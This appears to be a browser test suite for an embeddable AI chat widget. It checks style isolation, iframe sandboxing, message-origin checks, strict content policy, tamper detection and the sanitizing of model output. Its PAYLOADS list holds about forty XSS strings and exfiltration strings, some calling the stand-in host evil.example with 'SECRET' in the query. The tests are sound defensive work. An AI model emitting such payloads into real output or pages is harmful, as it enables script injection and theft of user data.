// The widget among people who mean harm: styles, scripts and messages of a page, changed files, and
// what a model might write (X01 to X15).

import { assert, run, skip } from "./lib/report.mjs";
import {
  ask,
  browser,
  bytes,
  cdn,
  closeAll,
  element,
  frameOf,
  heard,
  launcher,
  open,
  own,
  panel,
  shot,
  site,
} from "./lib/widget-site.mjs";

const cases = {};

cases["X12 hostile styles of the page change nothing but what they may"] = async () => {
  const page = await open("/hostile");
  const style = await launcher(page).evaluate((node) => {
    const { backgroundColor, borderRadius, fontSize, textTransform, letterSpacing } =
      getComputedStyle(node);
    return { backgroundColor, borderRadius, fontSize, textTransform, letterSpacing };
  });
  assert.deepEqual(style, {
    backgroundColor: "rgb(180, 75, 22)",
    borderRadius: "99px",
    fontSize: "14px",
    textTransform: "none",
    letterSpacing: "normal",
  });
  const place = await panel(page);
  const frame = page.locator("ingle-chat iframe");
  assert.equal(await frame.evaluate((node) => getComputedStyle(node).transform), "none");
  assert.equal(
    await place.locator(".ingle").evaluate((node) => getComputedStyle(node).fontSize),
    "15px",
  );
  await shot(page, "widget-hostile");
  await page.close();
};

cases["X12 a script of the page reaches neither root nor frame"] = async () => {
  const page = await open("/", { see: false });
  await element(page, "show()");
  await frameOf(page);
  const reached = await page.evaluate(() => ({
    root: document.querySelector("ingle-chat").shadowRoot,
    frames: window.length,
    found: document.querySelectorAll("iframe").length,
  }));
  assert.deepEqual(reached, { root: null, frames: 0, found: 0 });
  await page.close();
};

cases["X13 the frame's sandbox, and none on the page's own origin"] = async () => {
  const page = await open("/");
  await panel(page);
  const frame = page.locator("ingle-chat iframe");
  const [sandbox, src] = [await frame.getAttribute("sandbox"), await frame.getAttribute("src")];
  assert.equal(
    sandbox,
    "allow-scripts allow-same-origin allow-popups allow-popups-to-escape-sandbox",
  );
  assert.notEqual(new URL(src).origin, site.origin);
  await page.close();
  const same = await open("/hiding", { origin: own.origin });
  await launcher(same).click();
  await same.locator("ingle-chat .ingle").waitFor();
  assert.equal(await same.locator("ingle-chat iframe").count(), 0);
  await same.close();
};

/** In a page: a frame of the widget beside which anybody may speak. */
async function raw(at = "/w/frame.html") {
  const page = await browser.page(`${site.origin}/bare`);
  await page.evaluate(async (url) => {
    const frame = document.createElement("iframe");
    frame.src = url;
    await new Promise((done) => {
      frame.onload = done;
      document.body.append(frame);
    });
    const config = {
      model: "",
      sha256: "",
      size: 0,
      heading: "",
      greeting: "",
      placeholder: "",
      system: "",
      context: 2048,
      maxTokens: 5,
      temperature: 0,
      keep: "none",
      share: "none",
      isolation: "frame",
      inline: false,
      keepLoaded: false,
      lang: "en",
      scheme: "auto",
      askOver: 0,
      theme: {},
    };
    /** Greets and gives what is heard within a moment, from when `least` of it has come. */
    globalThis.greet = async (data, said = [{ do: "config", config }], ports = 1, least = 0) => {
      const channels = Array.from({ length: ports }, () => new MessageChannel());
      const heard = [];
      for (const { port1 } of channels) port1.onmessage = ({ data }) => heard.push(data);
      frame.contentWindow.postMessage(
        data,
        new URL(url).origin,
        channels.map(({ port2 }) => port2),
      );
      for (const one of said) channels[0]?.port1.postMessage(one);
      const pause = (ms) => new Promise((done) => setTimeout(done, ms));
      for (let i = 0; i < 3000 && heard.length < least; i += 1) await pause(20);
      await pause(400);
      return heard;
    };
    Object.assign(globalThis, { config, frame });
  }, cdn.origin + at);
  return page;
}

cases["X11 messages that do not fit are ignored, and a greeting is heard once"] = async () => {
  const page = await raw();
  const nothing = await page.evaluate(async () => {
    const out = [];
    for (const data of [null, 1, "ingle", {}, { ingle: 2 }, { ingle: 1, more: 1 }, [1]])
      out.push(...(await greet(data)));
    out.push(
      ...(await greet({ ingle: 1 }, undefined, 0)),
      ...(await greet({ ingle: 1 }, undefined, 2)),
    );
    return out;
  });
  assert.deepEqual(nothing, [], "bad greetings");
  const seen = await page.evaluate(async () => {
    const { config } = globalThis;
    const bad = [
      null,
      "ask",
      { do: "config" },
      { do: "config", config: { ...config, more: 1 } },
      { do: "config", config: { ...config, model: 5 } },
      { do: "config", config: { ...config, lang: "xx" } },
      { do: "config", config: { ...config, theme: { accent: {} } } },
      { do: "config", config: { ...config, size: Infinity } },
      { do: "ask", text: "before there is a panel" },
      { do: "export", id: "1" },
      { do: "eval", text: "1" },
      { do: "config", config: { ...config, heading: "x".repeat(100_001) } },
    ];
    const said = [...bad, { do: "config", config }, { do: "open", touch: false }];
    const first = await greet({ ingle: 1 }, said, 1, 3);
    const again = await greet({ ingle: 1 });
    return { first, again };
  });
  assert.deepEqual(
    seen.first.map(({ is, state, name }) => state ?? name ?? is),
    ["idle", "trouble", "error"],
  );
  assert.deepEqual(seen.again, [], "a second greeting");
  await page.close();
};

cases["X11 nobody but the page above is heard"] = async () => {
  const page = await raw();
  // A frame of a third origin beside the widget's, which speaks to its sibling.
  await page.evaluate(async (url) => {
    const other = document.createElement("iframe");
    other.src = url;
    await new Promise((done) => {
      other.onload = done;
      document.body.append(other);
    });
  }, `${own.origin}/w/demo.css`);
  const sibling = page.frames().find((frame) => frame.url().startsWith(own.origin));
  const heardBySibling = await sibling.evaluate(async () => {
    const { port1, port2 } = new MessageChannel();
    const heard = [];
    port1.onmessage = ({ data }) => heard.push(data);
    parent.frames[0].postMessage({ ingle: 1 }, "*", [port2]);
    port1.postMessage({ do: "open", touch: false });
    await new Promise((done) => setTimeout(done, 400));
    return heard;
  });
  assert.deepEqual(heardBySibling, []);
  const mine = await page.evaluate(() => greet({ ingle: 1 }, undefined, 1, 1));
  assert.equal(mine[0]?.state, "idle", "the page above still is");
  await page.close();
  const listed = await raw("/listed/frame.html");
  assert.deepEqual(
    await listed.evaluate(() => greet({ ingle: 1 })),
    [],
    "a site that is not listed",
  );
  await listed.close();
};

cases["X14 a strict policy of the page, without style or connection, is enough"] = async () => {
  const page = await open("/strict");
  const place = await panel(page);
  await ask(page, place, "hello");
  assert.deepEqual(await heard(page, "csp", 0), []);
  assert.deepEqual(page.problems, []);
  await page.close();
};

cases["X15 a changed byte refuses to start, and says so"] = async () => {
  const page = await open("/bad");
  await launcher(page).click();
  await page.waitForFunction(
    () => document.querySelector("ingle-chat").state === "unsupported",
    null,
    { timeout: 60_000 },
  );
  assert.match(await page.locator("ingle-chat p[role=alert]").textContent(), /changed on its way/);
  assert.equal((await heard(page, "ingle-error"))[0].code, "engine.module");
  await page.close();
};

cases["X15 a module that was changed on its way is not run, and a card says so"] = async () => {
  if (!bytes) skip("no fixtures and no seeded model");
  const page = await open("/tampered");
  const place = await panel(page);
  await place.locator("textarea").fill("hello");
  await place.locator("textarea").press("Enter");
  await page.waitForFunction(() => heard.some(({ type }) => type === "ingle-error"));
  assert.equal((await heard(page, "ingle-error"))[0].code, "engine.module");
  // Its words are said to screen readers too, a moment later.
  await place.locator(".card").getByText("or was changed").waitFor();
  await page.close();
};

/** What a model might write, each with a request, a script or a node that must not come of it. */
const PAYLOADS = [
  "<script>pwned()</script>",
  "<img src=x onerror=pwned()>",
  "<svg onload=pwned()>",
  "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
  "<math><mi xlink:href='javascript:pwned()'>x",
  "<details open ontoggle=pwned()>",
  "<style>*{background:url(//evil.example)}</style>",
  "<a href='javascript:pwned()'>x</a>",
  "[x](javascript:pwned())",
  "[x](JaVaScRiPt:pwned())",
  "[x](java\tscript:pwned())",
  "[x](&#106;avascript:pwned())",
  "[x](data:text/html,<script>pwned()</script>)",
  "[x](vbscript:pwned())",
  "[x](//evil.example)",
  '[x](https://ok.example "a\\" onmouseover=\\"pwned()")',
  "![x](https://evil.example/?q=SECRET)",
  "![x][r]\n\n[r]: https://evil.example/r",
  "[![x](https://evil.example/i)](https://ok.example)",
  '```"><script>pwned()</script>\ncode\n```',
  "```html\n<img src=x onerror=pwned()>\n```",
  "`<img src=x onerror=pwned()>`",
  "<https://evil.example/auto>",
  "https://evil.example/plain",
  "<link rel=prefetch href=https://evil.example>",
  "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
  "<!--><img src=x onerror=pwned()>-->",
  "<form action=https://evil.example><button>x</button></form>",
  "<base href=https://evil.example>",
  "<object data=https://evil.example></object>",
  "<template><script>pwned()</script></template>",
  "| <img src=x onerror=pwned()> | b |\n|---|---|\n| <svg onload=pwned()> | 2 |",
  "- [ ] <img src=x onerror=pwned()>",
  "> <script>pwned()</script>",
  "# <img src=x onerror=pwned()>",
  "**<img src=x onerror=pwned()>**",
  "&lt;script&gt;pwned()&lt;/script&gt;",
  "$$\\href{javascript:pwned()}{x}$$",
  "```mermaid\ngraph TD; A[<img src=x onerror=pwned()>]\n```",
  "\u202Egnp.exe <b>x</b>",
];
const NODES = (
  "a article blockquote br button code del details div em figure form h1 h2 h3 h4 h5 h6 header " +
  "hr input li ol p path pre progress section slot small span strong summary svg table tbody " +
  "td textarea th thead tr ul"
).split(" ");

cases[
  `X01 to X06, X08: ${PAYLOADS.length} payloads, streamed: no script, no request, only known nodes`
] = async () => {
  const page = await open("/");
  const place = await panel(page);
  await place.evaluate(() => (globalThis.pwned = () => (globalThis.wasPwned = true)));
  await ask(page, place, "first");
  const before = page.requests.length;
  for (const payload of PAYLOADS) {
    await ask(page, place, payload);
    const seen = await place.evaluate((known) => {
      const all = [...document.querySelectorAll(".ingle *")];
      return {
        unknown: all.map((node) => node.localName).filter((name) => !known.includes(name)),
        handlers: all
          .flatMap((node) => node.getAttributeNames())
          .filter((name) => name.startsWith("on") || name === "style"),
        links: [...document.querySelectorAll(".ingle a")]
          .map((node) => node.protocol)
          .filter((p) => !["http:", "https:", "mailto:"].includes(p)),
        pwned: globalThis.wasPwned ?? false,
      };
    }, NODES);
    assert.deepEqual(seen, { unknown: [], handlers: [], links: [], pwned: false }, payload);
  }
  // Cut at every letter: each beginning is an answer of its own.
  for (const payload of ["[x](javascript:pwned())", "![x](https://evil.example/i.png)"]) {
    for (let cut = 1; cut <= payload.length; cut += 1)
      await ask(page, place, payload.slice(0, cut));
  }
  assert.equal(await place.locator(".ingle img, .ingle iframe, .ingle script").count(), 0);
  assert.deepEqual(page.requests.slice(before), []);
  assert.deepEqual(page.problems, []);
  await place.evaluate(() => sessionStorage.clear());
  await page.close();
};

cases["X07 nesting without end is answered"] = async () => {
  const page = await open("/");
  const place = await panel(page);
  for (const [i, letter] of ["[", "*", ">"].entries()) {
    await element(page, `ask(${JSON.stringify(letter)}.repeat(99_000))`);
    await place.waitForFunction(
      (n) => document.querySelectorAll("article:not(.me):not([aria-busy])").length === n,
      i + 1,
      { timeout: 100_000 },
    );
  }
  assert.equal(await place.locator("article:not(.me)").count(), 3);
  await place.evaluate(() => sessionStorage.clear());
  await page.close();
};

cases["X09, X10 a code box shows what cannot be seen, and copies its source"] = async () => {
  const page = await open("/");
  await page
    .context()
    .grantPermissions(["clipboard-read", "clipboard-write"], { origin: cdn.origin });
  const place = await panel(page);
  const source = "<b>x</b> \u202e// \u2066a\u200bb\u2069";
  await ask(page, place, `\`\`\`html\n${source}\n\`\`\`\n\nand \`a\u200bb\``);
  assert.equal(
    await place.locator(".codebox code").last().textContent(),
    "<b>x</b> U+202E// U+2066aU+200BbU+2069",
  );
  assert.equal(await place.locator("p code").last().textContent(), "aU+200Bb");
  await place.evaluate(() => {
    navigator.clipboard.writeText = async (text) => void (globalThis.copied = text);
    // It says so for a moment only.
    globalThis.labels = [];
    const button = document.querySelector(".codebox button");
    const seen = new MutationObserver(() => labels.push(button.textContent));
    seen.observe(button, { childList: true, characterData: true, subtree: true });
  });
  await place.click(".codebox button");
  assert.equal(await place.evaluate(() => globalThis.copied), source);
  await place.waitForFunction(() => labels.length > 0);
  assert.equal(await place.evaluate(() => labels[0]), "Copied");
  await place.evaluate(() => sessionStorage.clear());
  await page.close();
};

cases["U57 on its own origin the chip says so, and the page's styles cannot hide it"] =
  async () => {
    const page = await open("/hiding", { origin: own.origin });
    await launcher(page).click();
    const chip = page.locator("ingle-chat .chip.shared");
    await chip.waitFor();
    assert.match(await chip.textContent(), /This site can read this chat/);
    const style = await chip.evaluate((node) => {
      const { visibility, fontSize, display } = getComputedStyle(node);
      return {
        visibility,
        fontSize,
        display,
        opacity: getComputedStyle(node.getRootNode().host).opacity,
      };
    });
    assert.deepEqual(style, {
      visibility: "visible",
      fontSize: "13px",
      display: "flex",
      opacity: "1",
    });
    await shot(page, "widget-shadow");
    await page.close();
  };

await run(cases, { after: closeAll });
